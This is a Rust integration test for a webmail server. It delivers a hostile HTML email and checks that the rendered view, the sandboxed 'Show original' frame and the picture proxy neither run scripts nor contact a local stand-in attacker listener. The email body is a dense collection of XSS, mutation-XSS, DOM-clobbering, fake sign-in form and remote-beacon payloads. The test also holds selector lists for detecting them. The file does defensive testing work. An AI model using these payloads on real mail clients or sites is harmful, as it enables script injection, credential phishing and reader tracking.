//! A mail that tries everything, in a browser: nothing of it runs, and nothing calls out because somebody reads.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

use super::desk::{BUSINESS, Desk};
use crate::harness::Outcome;
use crate::harness::browser::Browser;
use crate::harness::mailer::Mailer;

const SUBJECT: &str = "You must see this";

/// A server of the attacker's, which counts who comes.
async fn listener() -> Outcome<(String, Arc<AtomicUsize>)> {
    let listener = TcpListener::bind("127.0.0.1:0").await?;
    let address = listener.local_addr()?.to_string();
    let visits = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&visits);
    tokio::spawn(async move {
        while let Ok((mut peer, _)) = listener.accept().await {
            counted.fetch_add(1, Ordering::SeqCst);
            let _gone = peer.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n").await;
        }
    });
    Ok((address, visits))
}

/// Everything that has ever run or called out in some mail program.
fn body(evil: &str) -> String {
    format!(
        r#"<!doctype html><html manifest="http://{evil}/manifest"><head>
<base href="http://{evil}/base/"><meta http-equiv="refresh" content="0;url=http://{evil}/refresh">
<link rel="stylesheet" href="http://{evil}/style.css"><link rel="prefetch" href="http://{evil}/prefetch">
<link rel="preconnect" href="http://{evil}/"><link rel="icon" href="http://{evil}/icon">
<style>@import url("http://{evil}/import.css"); @font-face {{ font-family: f; src: url(http://{evil}/font) }}
body {{ background: url(http://{evil}/background); font-family: f }} p::after {{ content: url(http://{evil}/after) }}
p {{ position: fixed; inset: 0; z-index: 9999; list-style-image: url(http://{evil}/list) }}</style>
<script>parent.__ran = top.__ran = 1; fetch("http://{evil}/script")</script>
<script src="http://{evil}/script.js"></script></head>
<body background="http://{evil}/body" onload="top.__ran=2" onfocus="top.__ran=2">
<p onclick="top.__ran=3" onmouseover="top.__ran=3" style="background:url(http://{evil}/inline)">The words one reads.</p>
<img src="http://{evil}/picture.png" srcset="http://{evil}/set.png 2x" onerror="top.__ran=4" alt="A picture">
<img src=x onerror=top.__ran=5><img src="cid:nothing" onerror="top.__ran=5">
<svg onload="top.__ran=6"><script>top.__ran=6</script><image href="http://{evil}/svg.png"/><use href="http://{evil}/x.svg#a"/>
<foreignObject><iframe src="javascript:top.__ran=6"></iframe></foreignObject><animate onbegin="top.__ran=6"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=top.__ran=7></style></mglyph></table></mtext></math>
<iframe src="http://{evil}/frame"></iframe><iframe srcdoc="<script>top.__ran=8</script>"></iframe>
<object data="http://{evil}/object"></object><embed src="http://{evil}/embed"><applet code="http://{evil}/applet"></applet>
<video src="http://{evil}/video" poster="http://{evil}/poster" autoplay></video><audio src="http://{evil}/audio" autoplay></audio>
<form action="http://{evil}/form"><input name="password" autofocus onfocus="top.__ran=9"><button>Sign in again</button>
<input type="image" src="http://{evil}/button"></form>
<details open ontoggle="top.__ran=10"><summary>more</summary></details><marquee onstart="top.__ran=11">x</marquee>
<a href="javascript:top.__ran=12">A link</a> <a href="data:text/html,<script>top.__ran=12</script>">another</a>
<a href="http://{evil}/link" ping="http://{evil}/ping">a third</a>
<template><img src=x onerror=top.__ran=13></template><noscript><p title="</noscript><img src=x onerror=top.__ran=14>"></noscript>
<div id="main"></div><input name="getElementById"><a id="body" name="body"></a>
<table background="http://{evil}/table"><tr><td>A cell</td></tr></table></body></html>"#
    )
}

async fn bring(desk: &Desk, evil: &str) -> Outcome {
    let mail = format!(
        "From: Odd Fremmed <odd@fremmed.example>\r\nTo: {BUSINESS}\r\nSubject: {SUBJECT}\r\nMessage-ID: <x@fremmed.example>\r\n\
         MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{}",
        body(evil).replace('\n', "\r\n")
    );
    let reply = Mailer::deliver(desk.server.lmtp()?, "odd@fremmed.example", BUSINESS, mail.as_bytes()).await?;
    if reply.is_yes() { Ok(()) } else { Err(format!("the mail was refused: {}", reply.text).into()) }
}

/// A page's answer, whole, without cookies.
async fn plain(desk: &Desk, path: &str) -> Outcome<String> {
    let address = desk.server.http();
    let mut peer = TcpStream::connect(address).await?;
    let request = format!("GET {path} HTTP/1.1\r\nHost: {address}\r\nConnection: close\r\n\r\n");
    peer.write_all(request.as_bytes()).await?;
    let mut answer = String::new();
    peer.read_to_string(&mut answer).await?;
    Ok(answer)
}

async fn nothing_ran(browser: &Browser) -> Outcome {
    assert_eq!(browser.js("return window.__ran ?? null", &[]).await?, json!(null), "something of the mail ran");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_of_a_hostile_mail_runs_and_nothing_calls_out_because_somebody_reads() -> Outcome {
    let (evil, visits) = listener().await?;
    let desk = Desk::open(1).await?;
    bring(&desk, &evil).await?;
    let Some(browser) = desk.enter("Kari Moen", "admin", "en").await? else { return Ok(()) };
    desk.open_conversation(&browser, SUBJECT).await?;

    // Our own rendering: its words, and nothing that is not ours.
    let text = browser.text().await?;
    assert!(text.contains("The words one reads.") && text.contains("A cell"), "{text}");
    let strange = "return [...document.querySelectorAll('article.msg .doc, article.msg .said, article.msg .body')].flatMap(it => \
        [...it.querySelectorAll('script, style, link, meta, base, svg:not(.ic), form[action^=http], input, object, embed, video, \
        audio, math, img, [style], [onclick], [onerror], [onload], [onfocus], a[href^=javascript], a[href^=data], a[ping]')]) \
        .map(it => it.outerHTML)";
    assert_eq!(browser.js(strange, &[]).await?, json!([]));
    browser.wait_for_text("is on another computer").await?;
    nothing_ran(&browser).await?;

    // The original: in a frame that can do nothing, as high as we say, with its own scroll.
    browser.click_text("Show original").await?;
    let frame = browser.find("article.msg iframe").await?;
    let sandbox = frame.attr("sandbox").await?.ok_or("a sandbox")?;
    assert!(
        !sandbox.contains("scripts") && !sandbox.contains("same-origin") && !sandbox.contains("forms"),
        "{sandbox}"
    );
    assert!(!sandbox.contains("top-navigation"), "{sandbox}");
    let high = frame.prop("offsetHeight").await?.and_then(|high| high.parse::<u32>().ok()).unwrap_or_default();
    assert!((150..800).contains(&high), "{high}");
    let source = frame.attr("src").await?.ok_or("a source")?;
    frame.clone().enter_frame().await?;
    browser.wait_for_text("The words one reads.").await?;
    let inside = "return [location.origin === 'null' || self.origin === 'null', document.scripts.length, \
        document.querySelectorAll('[onclick], [onerror], [onload], iframe, object, embed, form, base, meta[http-equiv], a[href^=javascript], a[href^=data]').length]";
    assert_eq!(browser.js(inside, &[]).await?, json!([true, 0, 0]));
    browser.driver().enter_default_frame().await?;
    nothing_ran(&browser).await?;
    assert_eq!(visits.load(Ordering::SeqCst), 0, "somebody called out");

    // Its address opens without a cookie, says what may not be, and means nothing to who bends it.
    let path = source.trim_start_matches(&desk.server.url("")).to_owned();
    let answer = plain(&desk, &path).await?.to_lowercase();
    assert!(answer.starts_with("http/1.1 200"), "{answer}");
    assert!(answer.contains("content-security-policy: sandbox") && answer.contains("default-src 'none'"), "{answer}");
    assert!(!answer.contains("set-cookie") && !answer.contains("<script"), "{answer}");
    assert!(plain(&desk, &format!("{path}x")).await?.starts_with("HTTP/1.1 404"));

    // Pictures: only when asked for, and then by the server alone, which calls nobody inside the house.
    browser.click_role("button", "Show pictures").await?;
    browser.wait_for_js("return !document.querySelector('article.msg .blocked')").await?;
    browser
        .wait_for_js("return document.querySelectorAll('article.msg img[src^=\"/pictures/remote/\"]').length > 0")
        .await?;
    let pictures = "return [...document.images].every(it => new URL(it.src).origin === location.origin)";
    assert_eq!(browser.js(pictures, &[]).await?, json!(true));
    browser.wait_for_js("return [...document.querySelectorAll('article.msg img')].every(it => it.complete)").await?;
    assert_eq!(visits.load(Ordering::SeqCst), 0, "somebody called out, or the server called somebody in the house");
    nothing_ran(&browser).await?;
    browser.quit().await
}
